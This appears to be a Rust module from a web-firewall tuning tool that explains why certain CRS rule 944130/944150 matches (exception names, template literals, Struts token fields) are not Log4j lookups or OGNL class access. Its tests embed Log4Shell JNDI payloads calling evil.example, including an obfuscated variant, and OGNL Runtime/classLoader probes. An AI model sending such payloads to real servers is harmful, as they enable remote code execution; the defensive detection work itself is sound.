//! Log4j's lookups: `${prefix:key}` is resolved by the lookup the prefix names (`jndi:` fetches a class from a
//! directory server, `ctx:` reads the thread's context, and `${ctx:x:-j}` yields `j` to spell `jndi` in
//! pieces). A prefix ends with its colon: `${ctx.status}` (a JavaScript template literal's member, a JSP or
//! Thymeleaf expression's variable) names no lookup and Log4j leaves it as it is.

use std::ops::Range;

/// Why a Java class a pattern found (`java.lang.String`, `java.net.Socket`) in a value an error report or a
/// telemetry export quotes of the program (`reported`: [`super::report`]) is no expression: the exception the
/// program threw and the frames it ran (`ClassCastException: java.lang.Integer cannot be cast to
/// java.lang.String`), which the tracker stores. A lookup there (`${jndi:...}`) still counts: Log4j resolves one
/// in whatever message it logs.
pub fn reported_class(matched: &[u8], reported: bool) -> Option<String> {
    (reported && !matched.windows(2).any(|w| w == b"${")).then(|| {
        "a Java class an error report or a telemetry export names: the program's own exception or frame, not an expression"
            .to_owned()
    })
}

/// Why the Java class the pattern's `hit` found in `value` is not that class: its name runs on into an
/// exception's (`java.net.Socket` of `java.net.SocketTimeoutException`, `java.lang.Runtime` of
/// `java.lang.RuntimeException`: what stack traces and logs name, and what no payload runs), or the hit starts
/// inside a longer word (`runtime` of Android's log tag `AndroidRuntime`). CRS lists beginnings of names on
/// purpose (`java.io.InputStream` of `java.io.InputStreamReader`): another longer name counts, and so does the
/// accessor `getRuntime`, which reaches the class itself.
pub fn inside_longer_class(value: &[u8], hit: Range<usize>) -> Option<String> {
    let matched = value.get(hit.clone())?;
    let is_name = |b: Option<&u8>| b.is_some_and(|&b| b.is_ascii_alphanumeric() || b == b'_');
    let longer = value[hit.end..]
        .iter()
        .take_while(|&&b| is_name(Some(&b)))
        .count();
    let rest = &value[hit.end..hit.end + longer];
    let exception = [&b"exception"[..], b"error"].iter().any(|kind| {
        rest.len() >= kind.len() && rest[rest.len() - kind.len()..].eq_ignore_ascii_case(kind)
    });
    if is_name(matched.last()) && exception {
        return Some(format!(
            "`{}` runs on into the exception `{}`",
            String::from_utf8_lossy(matched),
            String::from_utf8_lossy(&value[hit.start..hit.end + longer])
        ));
    }
    let prefix = &value[super::name::word_start(value, hit.start)..hit.start];
    (matched.first().is_some_and(u8::is_ascii_alphabetic)
        && !prefix.is_empty()
        && prefix.iter().all(u8::is_ascii_alphabetic)
        && !prefix.eq_ignore_ascii_case(b"get"))
    .then(|| {
        format!(
            "`{}` starts inside the word `{}{}`",
            String::from_utf8_lossy(matched),
            String::from_utf8_lossy(prefix),
            String::from_utf8_lossy(matched)
        )
    })
}

/// Why a hit of `${ctx` in `value` (CRS 944150's context lookup) is no lookup Log4j resolves: the name goes on
/// with something other than the colon that ends a lookup's prefix (`${ctx.status}`, `${ctxPath}`).
pub fn unresolved(value: &[u8], hit: Range<usize>) -> Option<String> {
    let matched = value.get(hit.clone())?;
    let named_ctx = matched.len() >= 3 && matched[matched.len() - 3..].eq_ignore_ascii_case(b"ctx");
    let next = value.get(hit.end).copied();
    (named_ctx && next != Some(b':')).then(|| {
        format!(
            "`{}` goes on with {}: a lookup's prefix ends with a colon, so Log4j resolves nothing here",
            String::from_utf8_lossy(matched),
            next.map_or_else(|| "the value's end".to_owned(), |b| format!("`{}`", char::from(b)))
        )
    })
}

/// The first names of the packages CRS 944130 lists classes of (`org.apache.struts`, `java.io.File`).
const PACKAGE_ROOTS: &[&str] = &["com", "org", "java", "javax", "sun", "freemarker"];

/// Why the class or package that the pattern's `hit` found at the start of a parameter's name reaches no class:
/// the name is a dotted path of plain identifiers (`org.apache.struts.taglib.html.TOKEN`, the transaction token
/// every form of a Struts 1 application carries), going on past the package. `value` is the name itself (`names`), or a form body whose
/// pair the name starts (after `&` or at the start, ending at `=`). Struts 2 reads a parameter's name as an
/// OGNL expression, and there `org.apache...` is a chain of the action's properties; a class is reached only
/// through OGNL's syntax (`@java.lang.Runtime@getRuntime()`, `#context`, `(...)`, `['...']`), or through the
/// properties' own path (`class.classLoader...`), which starts with no package. A class named in a value still
/// counts: an application may load the class a value names.
pub fn package_path_name(value: &[u8], hit: Range<usize>, names: bool) -> Option<String> {
    let starts_pair = hit.start == 0 || value.get(hit.start.wrapping_sub(1)) == Some(&b'&');
    let rest = value.get(hit.start..)?;
    let end = rest
        .iter()
        .position(|&b| b == b'=' || b == b'&')
        .unwrap_or(rest.len());
    let name = &rest[..end];
    let ends_name = if names {
        hit.start == 0 && end == rest.len()
    } else {
        rest.get(end) == Some(&b'=')
    };
    // A name that is a listed class or package itself is a probe's (scanners send each class as a name); a form
    // field named after the framework that writes it goes on past the package into names of its own.
    let goes_on = name.get(hit.len()) == Some(&b'.') && name.len() > hit.len() + 1;
    let plain_path = name.split(|&b| b == b'.').all(|part| {
        part.first()
            .is_some_and(|b| b.is_ascii_alphabetic() || *b == b'_')
            && part.iter().all(|b| b.is_ascii_alphanumeric() || *b == b'_')
    });
    let root = name.split(|&b| b == b'.').next()?;
    let package = PACKAGE_ROOTS
        .iter()
        .any(|package| root.eq_ignore_ascii_case(package.as_bytes()));
    (starts_pair && ends_name && goes_on && package && plain_path).then(|| {
        format!(
            "the parameter's name `{}` is a path of plain names from a package: no expression reaches a class through it",
            String::from_utf8_lossy(name).chars().take(80).collect::<String>()
        )
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn an_exception_or_a_log_tag_is_not_the_class_it_starts_with() {
        let found = |value: &[u8], hit: &[u8]| {
            let at = memchr::memmem::find(value, hit).expect("the hit is in the value");
            inside_longer_class(value, at..at + hit.len())
        };
        let trace = b"HTTP FAILED: java.net.SocketTimeoutException: timeout";
        assert!(found(trace, b"java.net.Socket").is_some());
        let log = b"e/androidruntime: fatal exception: main";
        assert!(found(log, b"runtime").is_some());
        assert!(
            found(
                b"caused by: java.lang.runtimeexception: x",
                b"java.lang.runtime"
            )
            .is_some()
        );
        assert!(found(b"new java.io.InputStreamReader(p)", b"java.io.InputStream").is_none());
        assert!(found(b"java.lang.runtime.getruntime().exec(x)", b"runtime").is_none());
        assert!(found(b"x.getruntime().exec(x)", b"runtime").is_none());
    }

    #[test]
    fn a_context_lookup_ends_its_prefix_with_a_colon() {
        let literal = b"throw new Error(`HTTP ${ctx.status}`)";
        assert!(unresolved(literal, 22..27).is_some());
        assert!(unresolved(b"${ctxPath}/static/app.js", 0..5).is_some());
        assert!(unresolved(b"${ctx:loginId}", 0..5).is_none());
        assert!(unresolved(b"${${ctx:x:-j}ndi:ldap://evil.example/a}", 2..7).is_none());
        assert!(unresolved(b"${jndi:ldap://evil.example/a}", 0..6).is_none());
    }

    #[test]
    fn a_class_an_error_report_names_is_the_programs_own() {
        assert!(reported_class(b"java.lang.String", true).is_some());
        assert!(reported_class(b"java.lang.String", false).is_none());
        assert!(reported_class(b"${jndi:ldap", true).is_none());
    }

    #[test]
    fn a_name_that_starts_with_a_package_reaches_no_class() {
        let token = b"org.apache.struts.taglib.html.TOKEN";
        assert!(package_path_name(token, 0..17, true).is_some());
        let form = b"nome=Ana&org.apache.struts.taglib.html.TOKEN=9f8e&cpf=1";
        assert!(package_path_name(form, 9..26, false).is_some());
        // A listed class as the whole name, a value naming a class, OGNL's syntax, a path from a property.
        assert!(package_path_name(b"java.io.File", 0..12, true).is_none());
        assert!(package_path_name(b"java.io.File=test", 0..12, false).is_none());
        assert!(package_path_name(b"cls=org.apache.struts.Foo", 4..21, false).is_none());
        assert!(
            package_path_name(
                b"class.classLoader.resources.dirContext.docBase",
                6..17,
                true
            )
            .is_none()
        );
        assert!(package_path_name(b"@java.lang.Runtime@getRuntime()", 1..10, true).is_none());
        assert!(package_path_name(b"java.lang.Runtime@getRuntime()", 0..9, true).is_none());
        assert!(package_path_name(b"org.apache.struts2.dispatcher['x']", 0..18, true).is_none());
        assert!(package_path_name(b"org.apache.struts2.x[0]=1", 0..18, false).is_none());
    }
}
